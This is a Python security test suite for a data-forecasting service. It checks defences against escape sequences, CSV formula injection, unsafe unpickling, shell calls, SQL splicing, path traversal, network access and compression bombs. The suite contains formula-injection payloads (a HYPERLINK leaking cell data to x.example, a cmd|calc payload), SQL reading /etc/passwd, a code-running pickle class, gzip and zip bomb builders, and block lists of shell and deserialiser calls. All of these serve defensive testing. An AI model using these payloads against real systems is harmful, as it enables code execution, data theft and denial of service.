"""Security: what input files can make the service print, write, run, load or fetch.

SECURITY.md lists the threats; each test here names the defence it checks.
"""

from __future__ import annotations

import ast
import csv
import dataclasses
import functools
import gzip
import io
import json
import re
import socket
import zipfile
from pathlib import Path

import duckdb
import joblib
import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from pipeline_fixtures import frame_workspace, small_demo_frame
from report_fixtures import make_result
from typer.testing import CliRunner

from forecast.cli import app
from forecast.data import readers
from forecast.data.warehouse import Warehouse
from forecast.engine import EngineConfig, run_engine
from forecast.errors import DataError, Problem, RegistryError
from forecast.panel import Panel
from forecast.publish import run_and_publish
from forecast.registry import load_artifact, load_run, save_run
from forecast.safeio import FORMULA_PREFIXES, csv_bytes
from forecast.textutil import printable, slugify

runner = CliRunner()
ESC = "\x1b[2J\x1b[31m"  # clear the screen, then print in red


# --- terminal output: no escape sequences from data --------------------------------------


def test_printable_escapes_controls_and_bidi_overrides_only():
    assert printable("Hà Nội\x1b[2J\u202eabc\x07") == "Hà Nội\\x1b[2J\\u202eabc\\x07"
    assert printable("Tỉnh Đắk Lắk, 1.234,5 — “ok”") == "Tỉnh Đắk Lắk, 1.234,5 — “ok”"


def test_problem_lines_escape_control_characters_of_file_and_column():
    problem = Problem(f"a{ESC}.csv", 2, f"x{ESC}", f"v{ESC}", "m", "f")
    assert str(problem) == (
        "a\\x1b[2J\\x1b[31m.csv, row 2, column 'x\\x1b[2J\\x1b[31m': m "
        "(value: 'v\\x1b[2J\\x1b[31m'). Fix: f"
    )


def test_ingest_and_data_show_never_print_escape_sequences_from_files(tmp_path):
    good = tmp_path / f"good{ESC}.csv"
    good.write_text(
        f"period,province,category,market,value,unit,note{ESC}\n"
        "2024-01,Hà Nội,XK_WOOD,export,1,USD,x\n",
        encoding="utf-8",
    )
    bad = tmp_path / f"bad{ESC}.csv"
    bad.write_text(
        f"period,province,category,market,value,unit\n2024-01,Hà{ESC}Nội,XK_WOOD,export,1,U{ESC}\n",
        encoding="utf-8",
    )
    wh = str(tmp_path / "w.duckdb")
    source = f"Sở{ESC}"
    result = runner.invoke(
        app, ["ingest", str(good), str(bad), "--source", source, "--warehouse", wh]
    )
    assert result.exit_code == 65
    assert "\x1b" not in result.output
    assert "bad\\x1b[2J\\x1b[31m.csv: rejected, nothing stored." in result.output
    assert "column 'unit': unit contains control characters (value: 'U\\x1b[2J\\x1b[31m')" in (
        result.output
    )
    assert "good\\x1b[2J\\x1b[31m.csv: stored 1 rows as batch 1" in result.output
    assert "ignored column(s) that are not in the data contract: 'note\\x1b[2J\\x1b[31m'" in (
        result.output
    )
    show = runner.invoke(app, ["data", "show", "--notes", "--warehouse", wh])
    assert show.exit_code == 0
    assert "\x1b" not in show.output
    assert "good\\x1b[2J\\x1b[31m.csv" in show.output and "Sở\\x1b[2J\\x1b[31m" in show.output


def test_the_warehouse_never_prints_duckdb_progress_bars(tmp_path):
    """DuckDB draws a progress bar on stdout for queries over 2 s, even without a terminal."""
    with Warehouse(tmp_path / "w.duckdb") as wh:
        setting = wh._con.execute("SELECT current_setting('enable_progress_bar')").fetchone()
    assert setting == (False,)


@pytest.mark.parametrize(
    ("sql", "error"),
    [
        ("SELECT * FROM read_csv('/etc/passwd')", "file system operations are disabled"),
        ("COPY observations TO 'stolen.csv'", "file system operations are disabled"),
        ("INSTALL httpfs", "Permission Error"),
        ("SET enable_external_access = true", "configuration has been locked"),
    ],
)
def test_warehouse_sql_cannot_reach_outside_the_database_file(tmp_path, sql, error):
    """Defence in depth under parameterised SQL: even a statement built from data could
    not read or write other files, download extensions, or lift these limits."""
    with Warehouse(tmp_path / "w.duckdb") as wh, pytest.raises(duckdb.Error, match=error):
        wh._con.execute(sql)
    assert not (tmp_path / "stolen.csv").exists()


# --- formula injection: every CSV output -------------------------------------------------

HOSTILE = (
    '=HYPERLINK("http://x.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    " =2+2",  # ids are read trimmed: distinct from "\t=1+1" only by its formula
)


def _cells(path: Path) -> list[str]:
    text = path.read_text(encoding="utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_neutral(path: Path) -> None:
    """No cell a spreadsheet would run: anything starting like a formula is a number."""
    for cell in _cells(path):
        if cell.lstrip().startswith(FORMULA_PREFIXES):
            try:
                float(cell)
            except ValueError:
                pytest.fail(f"{path.name}: formula-like cell {cell!r}")


def test_predict_csv_and_backtest_outputs_neutralise_hostile_series_ids(tmp_path):
    rows = [
        (uid, str(p), 10 + k + (i % 12))
        for k, uid in enumerate([*HOSTILE, "ok"])
        for i, p in enumerate(pd.period_range("2020-01", periods=30, freq="M"))
    ]
    pd.DataFrame(rows, columns=["unique_id", "ds", "y"]).to_csv(tmp_path / "in.csv", index=False)
    out, details, board = tmp_path / "out.csv", tmp_path / "details", tmp_path / "board.csv"
    common = ["-h", "3", "--models", "naive,snaive"]
    predict = ["predict-csv", str(tmp_path / "in.csv"), "-o", str(out), "--details", str(details)]
    assert runner.invoke(app, [*predict, *common]).exit_code == 0
    backtest = ["backtest", "--input", str(tmp_path / "in.csv"), "-o", str(board)]
    assert runner.invoke(app, [*backtest, *common]).exit_code == 0
    files = [out, board, *(details / f"{n}.csv" for n in ("backtest", "selection", "leaderboard"))]
    for path in files:
        _assert_neutral(path)
    ids = set(_cells(out))
    read = {h.strip() for h in HOSTILE}  # ids lose the spaces at their ends
    assert {"'" + h for h in read} <= ids and not read & ids
    assert "'" + HOSTILE[0] in _cells(details / "selection.csv")


@pytest.mark.parametrize("text", [*HOSTILE, "\r=1", "\n=1", "=", "-", "@"])
def test_csv_bytes_neutralises_text_of_every_column_type(text):
    frame = pd.DataFrame(
        {
            "object": [text],
            "string": pd.array([text], dtype="string"),
            "category": pd.Categorical([text]),
            "number": [-1.5],
        }
    )
    cells = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8"))))[1]
    shown = "'" + text.replace("\r", "\n")
    assert cells == [shown] * 3 + ["-1.500000"]


def test_a_carriage_return_cannot_start_a_new_row(tmp_path):
    """A bare CR is left unquoted by a CSV writer with LF line ends, and spreadsheets start a
    new row there, whose first cell would then be a formula."""
    frame = pd.DataFrame({"unique_id": ['x\r=HYPERLINK("http://x.example")'], "y": [1.0]})
    data = csv_bytes(frame)
    assert b"\r" not in data
    (path := tmp_path / "f.csv").write_bytes(data)
    assert _cells(path) == ["unique_id", "y", 'x\n=HYPERLINK("http://x.example")', "1.000000"]


def test_no_xlsx_writer_exists():
    """No output is written as XLSX. Adding one needs the same neutralisation as csv_bytes
    (openpyxl stores a text cell starting with '=' as a formula) and a test here."""
    for path, tree in _modules():
        for node in ast.walk(tree):
            name = _dotted(node.func) if isinstance(node, ast.Call) else ""
            assert not name.endswith(("to_excel", "Workbook", "ExcelWriter")), (path, name)
            if isinstance(node, ast.Import | ast.ImportFrom):
                mods = [a.name for a in node.names] + [getattr(node, "module", "") or ""]
                assert not any("xlsxwriter" in m for m in mods), path


# --- code review as tests: deserialisation, shell, SQL -----------------------------------

PACKAGE = Path(__file__).resolve().parents[1] / "forecast"


@functools.cache
def _modules() -> list[tuple[str, ast.Module]]:
    """(path, syntax tree) of every module of the package, parsed once."""
    return [
        (str(p.relative_to(PACKAGE.parent)), ast.parse(p.read_text(encoding="utf-8")))
        for p in sorted(PACKAGE.rglob("*.py"))
    ]


def _dotted(node: ast.AST) -> str:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return f"{_dotted(node.value)}.{node.attr}"
    return ""


def _functions(tree: ast.Module) -> dict[ast.AST, str]:
    """Each node -> name of the function it is in ('' at module level)."""
    owner: dict[ast.AST, str] = {}
    for fn in ast.walk(tree):
        if isinstance(fn, ast.FunctionDef | ast.AsyncFunctionDef):
            for node in ast.walk(fn):
                owner.setdefault(node, fn.name) if node is not fn else None
    return owner


DESERIALISERS = (
    "pickle.load", "pickle.loads", "joblib.load", "cloudpickle.load", "cloudpickle.loads",
    "dill.load", "dill.loads", "marshal.load", "marshal.loads", "shelve.open",
    "pd.read_pickle", "pandas.read_pickle", "torch.load", "np.load", "numpy.load",
)  # fmt: skip
#: The one place allowed to unpickle: registry artifacts, after their checksum (see below).
ALLOWED_DESERIALISERS = {("forecast/registry.py", "load_artifact", "joblib.load")}


def test_objects_are_unpickled_only_from_the_registry_after_their_checksum():
    found = set()
    for path, tree in _modules():
        owner = _functions(tree)
        for node in ast.walk(tree):
            if isinstance(node, ast.Call) and _dotted(node.func) in DESERIALISERS:
                found.add((path, owner.get(node, ""), _dotted(node.func)))
    assert found <= ALLOWED_DESERIALISERS
    for path, function, _call in found:
        tree = dict(_modules())[path]
        fn = next(
            n for n in ast.walk(tree) if isinstance(n, ast.FunctionDef) and n.name == function
        )
        source = ast.unparse(fn)
        # The bytes are read once, checked against the manifest, and unpickled from memory.
        assert "data = _checked_bytes(" in source
        assert source.index("data = _checked_bytes(") < source.index(
            "joblib.load(io.BytesIO(data))"
        )


def test_no_shell_or_subprocess_calls():
    """Nothing in the package starts processes from strings (data or otherwise)."""
    banned = ("os.system", "os.popen", "subprocess.", "os.exec", "os.spawn", "pty.spawn")
    for path, tree in _modules():
        for node in ast.walk(tree):
            if isinstance(node, ast.Call):
                assert not _dotted(node.func).startswith(banned), (path, ast.unparse(node))
            if isinstance(node, ast.Import | ast.ImportFrom):
                mods = [a.name for a in node.names] + [getattr(node, "module", "") or ""]
                assert "subprocess" not in mods, path
            if isinstance(node, ast.keyword) and node.arg == "shell":
                pytest.fail(f"{path}: shell= in {ast.unparse(node)}")


_SQL = re.compile(r"\b(SELECT|INSERT|UPDATE|DELETE|CREATE|DROP|FROM|WHERE|COPY)\b")
#: Names that may be interpolated into SQL text: fixed column lists and table names.
_SQL_CONSTANTS = {
    "_OBS_SQL", "_KEY_SQL", "_PART_SQL", "_STORED_SQL", "_LATEST", "_LATEST_PARTS", "table", "t",
    "legacy",  # the catalog-qualified table name of a version-1 file, quoted as identifier
}  # fmt: skip


def sql_interpolations(tree: ast.Module) -> list[str]:
    """Expressions interpolated into SQL-looking f-strings, %-format or + concatenation."""
    out = []
    for node in ast.walk(tree):
        if isinstance(node, ast.JoinedStr):
            text = "".join(v.value for v in node.values if isinstance(v, ast.Constant))
            if _SQL.search(text):
                out += [
                    ast.unparse(v.value) for v in node.values if isinstance(v, ast.FormattedValue)
                ]
        elif isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod | ast.Add):
            for side in (node.left, node.right):
                text = side.value if isinstance(side, ast.Constant) else None
                if isinstance(text, str) and _SQL.search(text):
                    out.append(ast.unparse(node))
        elif isinstance(node, ast.Call) and _dotted(node.func).endswith(".format"):
            target = node.func.value  # type: ignore[attr-defined]
            if isinstance(target, ast.Constant) and _SQL.search(str(target.value)):
                out.append(ast.unparse(node))
    return out


def test_sql_interpolates_only_fixed_names():
    """User values reach DuckDB only as parameters (``?``); SQL text may only splice in the
    fixed column lists and table names of warehouse.py."""
    for path, tree in _modules():
        if "duckdb" not in ast.unparse(tree):
            continue
        assert set(sql_interpolations(tree)) <= _SQL_CONSTANTS, path


def test_the_sql_check_catches_values_in_sql_text():
    bad = ast.parse(
        "con.execute(f\"SELECT * FROM observations WHERE unit = '{unit}'\")\n"
        'con.execute("DELETE FROM batches WHERE batch_id = %s" % batch)\n'
        'con.execute("SELECT * FROM t WHERE unit = \'" + unit + "\'")\n'
    )
    assert len(sql_interpolations(bad)) == 3 and "unit" in sql_interpolations(bad)


# --- file names from data ------------------------------------------------------------------


@given(st.text())
def test_slugs_are_safe_file_names_whatever_the_text(text):
    slug = slugify(text)
    assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*|unnamed", slug) and len(slug) <= 60


@pytest.mark.parametrize(
    ("text", "slug"),
    [("../../etc/passwd", "etc-passwd"), ("..", "unnamed"), ("=cmd|' /C calc'!A0", "cmd-c-calc-a0"),
     ("Hồ Chí Minh", "ho-chi-minh"), ("a\x00b/c\\d", "a-b-c-d"), ("", "unnamed")],
)  # fmt: skip
def test_slugify_examples(text, slug):
    assert slugify(text) == slug


def test_report_file_names_come_from_reference_names_only(tmp_path):
    """Every report scope's file name is a slug of a reference name, whatever the data."""
    from forecast.data.geography import provinces, regions
    from forecast.reports.scope import national, province_scope, region_scope

    scopes = [national(), *(region_scope(r.code) for r in regions())]
    scopes += [province_scope(p.name) for p in provinces()]
    slugs = [s.slug for s in scopes]
    assert len(set(slugs)) == len(slugs) == 41
    assert all(re.fullmatch(r"(national|region|province)(-[a-z0-9]+)*", s) for s in slugs)


# --- a whole run offline, from hostile data to published reports ---------------------------

UNIT = '=HYPERLINK("http://x.example","u")'
SOURCE = "@SUM(A1)+cmd|' /C calc'!A0"


@pytest.fixture
def offline(monkeypatch):
    """Any attempt to resolve a name or open a network connection fails and is recorded."""
    attempts: list[object] = []
    real_connect, real_connect_ex = socket.socket.connect, socket.socket.connect_ex

    def refuse(what: object) -> OSError:
        attempts.append(what)
        return OSError(f"network access during a test: {what!r}")

    def connect(self, address):
        if self.family == socket.AF_UNIX:
            return real_connect(self, address)
        raise refuse(address)

    def connect_ex(self, address):
        if self.family == socket.AF_UNIX:
            return real_connect_ex(self, address)
        raise refuse(address)

    def resolve(*args, **kwargs):
        raise refuse(args)

    monkeypatch.setattr(socket.socket, "connect", connect)
    monkeypatch.setattr(socket.socket, "connect_ex", connect_ex)
    monkeypatch.setattr(socket, "getaddrinfo", resolve)
    monkeypatch.setattr(socket, "create_connection", resolve)
    return attempts


def test_the_offline_guard_works(offline):
    with pytest.raises(OSError, match="network access during a test"):
        socket.create_connection(("example.org", 80), timeout=1)
    with pytest.raises(OSError, match="network access during a test"):
        socket.socket(socket.AF_INET).connect(("192.0.2.1", 80))
    assert len(offline) == 2


def test_a_run_needs_no_network_and_its_csvs_neutralise_data_text(offline, tmp_path):
    """Ingest (with a formula as unit and as --source), forecast, reconcile, report (PDF
    and CSV), save and publish, with the network unreachable."""
    frame = small_demo_frame(n_provinces=2, n_categories=2, n_destinations=2)
    frame["unit"] = UNIT
    settings = frame_workspace(tmp_path, frame, source=SOURCE)
    published = run_and_publish(settings, formats=("pdf", "csv"))
    assert offline == []
    # Two provinces give partner rows but no linkage group (PDF views crashed on that).
    assert set(published.result.linkage["kind"]) == {"partner"}
    files = {p.name: p for p in published.report_files}
    assert {"national.pdf", "national.csv", "outlook-full.csv", "advantage-full.csv"} <= set(files)
    csvs = [p for p in files.values() if p.suffix == ".csv"]
    for path in csvs:
        _assert_neutral(path)
    units = {
        row["unit"]
        for row in csv.DictReader(io.StringIO(files["outlook-full.csv"].read_text("utf-8-sig")))
    }
    assert units == {"'" + UNIT}
    assert load_run(published.result.run_id, settings).sources["source_label"].tolist() == [SOURCE]


def test_prophet_and_the_calendar_need_no_network(offline):
    """Prophet runs cmdstan locally; Tết dates come from the installed holidays package."""
    rows = [
        (f"s{k}", str(p), 10 + k + 3 * np.sin(i / 12 * 2 * np.pi) + 0.1 * i)
        for k in range(2)
        for i, p in enumerate(pd.period_range("2021-01", periods=36, freq="M"))
    ]
    panel = Panel.from_long(pd.DataFrame(rows, columns=["unique_id", "ds", "y"]))
    result = run_engine(panel, EngineConfig(horizon=3, models=("prophet", "snaive"), n_windows=1))
    assert set(result.forecasts["model"]) <= {"ProphetTet", "SeasonalNaive"}
    assert "ProphetTet" in set(result.leaderboard["label"])
    assert offline == []


class _Payload:
    """Unpickling this runs code: it creates the file named in its state."""

    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):
        return (Path.touch, (Path(self.marker),))


def test_a_swapped_pickle_in_the_registry_is_refused_before_it_runs(tmp_path):
    result = dataclasses.replace(make_result(), artifacts={"engine_config": {"horizon": 12}})
    save_run(result, tmp_path / "models")
    folder = tmp_path / "models" / result.run_id
    assert load_artifact(tmp_path / "models", result.run_id, "engine_config") == {"horizon": 12}
    marker = tmp_path / "pwned"
    buf = io.BytesIO()
    joblib.dump(_Payload(str(marker)), buf)
    (folder / "artifacts" / "engine_config.joblib").write_bytes(buf.getvalue())
    with pytest.raises(RegistryError, match="fails its checksum"):
        load_artifact(tmp_path / "models", result.run_id, "engine_config")
    assert not marker.exists()
    # A manifest edited to point elsewhere is refused too.
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    manifest["artifacts"]["engine_config"]["file"] = "../../evil.joblib"
    (folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    with pytest.raises(RegistryError, match="unexpected file name"):
        load_artifact(tmp_path / "models", result.run_id, "engine_config")
    assert not marker.exists()


# --- resource limits: an unattended ingest cannot be made to exhaust memory ------------------


def _gzip_bomb(path: Path, size: int) -> Path:
    """A few kB that decompress to ``size`` bytes of a valid-looking CSV."""
    body = b"period,province,category,market,value,unit\n" + b"0" * size
    path.write_bytes(gzip.compress(body, compresslevel=9))
    return path


def _zip_bomb(path: Path, size: int) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * size)
    return path


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (lambda p: p.write_bytes(b"x" * 3 * 2**20) and p, "f.csv: the file is 3 MB, more than"),
        (
            lambda p: _gzip_bomb(p.with_suffix(".csv.gz"), 3 * 2**20),
            "f.csv.gz: the file decompresses to more than 2 MB, more than",
        ),
        (
            lambda p: _zip_bomb(p.with_suffix(".xlsx"), 3 * 2**20),
            "f.xlsx: the file unpacks to 3 MB, more than",
        ),
        (
            lambda p: (
                pd.DataFrame({"value": np.arange(400_000.0)}).to_parquet(
                    q := p.with_suffix(".parquet")
                )
                or q
            ),
            "f.parquet: the file unpacks to 3 MB, more than",
        ),
    ],
    ids=["plain", "gzip", "xlsx", "parquet"],
)
def test_inputs_over_the_size_limit_are_refused_before_they_are_expanded(
    tmp_path, monkeypatch, make, message
):
    monkeypatch.setattr(readers, "MAX_INPUT_BYTES", 2 * 2**20)
    path = make(tmp_path / "f.csv")
    assert path.stat().st_size < 3 * 2**20 or path.suffix == ".csv"
    with pytest.raises(DataError) as info:
        readers.read_table(path)
    (problem,) = info.value.problems
    assert str(problem) == (
        f"{message} the 2 MB accepted. Fix: split it into several files (e.g. one per year "
        "or per province) and ingest them together"
    )


def test_a_gzip_file_under_the_limit_still_reads(tmp_path, monkeypatch):
    monkeypatch.setattr(readers, "MAX_INPUT_BYTES", 2 * 2**20)
    text = "period,province,category,market,value,unit\n2024-01,Hà Nội,XK_WOOD,export,1,USD\n"
    second = "2024-02,Hà Nội,XK_WOOD,export,2,USD\n"
    two_members = gzip.compress(text.encode()) + gzip.compress(second.encode())
    (tmp_path / "f.csv.gz").write_bytes(two_members)
    assert readers.read_table(tmp_path / "f.csv.gz").frame["value"].tolist() == ["1", "2"]
